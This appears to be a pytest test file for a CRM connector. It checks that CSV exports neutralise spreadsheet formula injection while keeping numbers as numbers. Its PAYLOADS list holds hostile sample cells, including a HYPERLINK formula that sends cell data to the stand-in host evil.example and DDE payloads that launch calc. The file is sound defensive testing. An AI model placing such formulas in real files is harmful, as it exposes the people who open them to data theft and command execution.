"""CSV files people open in a spreadsheet (issue 22): a CRM name that looks like a formula
is shown, never run; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from connector.cli import main
from connector.spreadsheet import safe_cell

PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(A1)",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_neutralised(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5.0, 3, 0.25, "-5000000", "+1.5e3", "-.5", "Kira Lee", "",
                                   "2025-Q1", None])  # fmt: skip
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: text beginning with a trigger that is no number."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(TRIGGERS) and safe_cell(cell) != cell]  # fmt: skip


def test_compute_and_problems_csv_neutralise_names_from_the_crm(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    exports = tmp_path / "exports"
    exports.mkdir()
    with (exports / "owners.csv").open("w", newline="") as owners:
        writer = csv.writer(owners)
        writer.writerow(["id", "name", "email", "team", "territory"])
        writer.writerows([f"u{i}", name, f"rep{i}@example.com", name, "T"]
                         for i, name in enumerate(PAYLOADS[:3]))  # fmt: skip
    (exports / "opportunities.csv").write_text(
        "id,created_at,close_date,is_closed,is_won,amount,currency,owner_id,contact_method\n"
        "o1,2025-01-05,2025-02-01,true,true,100,USD,u0,email\n"
        "o2,2025-01-05,2025-02-03,true,true,-500,USD,u1,email\n"
        "o3,2025-01-05,2025-02-03,true,true,300,USD,u2,@SUM(A1)\n"
    )
    config = tmp_path / "config.yaml"
    config.write_text(
        "reporting: {currency: USD, timezone: UTC}\nstore: {path: s.duckdb}\n"
        "sources:\n  - {name: e, type: files, path: exports}\n"
        "targets:\n  - {kpi: total_revenue, period_type: month, value: 1000}\n"
    )
    assert main(["pull", "--config", str(config)]) == 0
    capsys.readouterr()
    assert main(["compute", "--config", str(config), "--period", "2025-02", "--scope", "all",
                 "--format", "csv"]) == 0  # fmt: skip
    computed = capsys.readouterr().out
    assert main(["problems", "--config", str(config), "--format", "csv"]) == 0
    problems = capsys.readouterr().out
    for text in (computed, problems):
        assert unsafe_cells(text) == []
    cells = [c for row in csv.reader(io.StringIO(computed)) for c in row]
    assert "'" + PAYLOADS[0] in cells  # the rep's name, shown as text
    assert {"'@SUM(A1)", "'@SUM(A1) (team)"} <= set(cells)  # a team named in the CRM
    gap = next(row for row in csv.DictReader(io.StringIO(computed))
           if row["scope_type"] == "company" and row["kpi"] == "total_revenue"
           and not row["breakdown"])["gap"]  # fmt: skip
    assert gap == "-1100.0"  # a negative number stays a number
    findings = list(csv.DictReader(io.StringIO(problems)))
    assert {"-500", "'@SUM(A1)"} <= {f["value"] for f in findings}
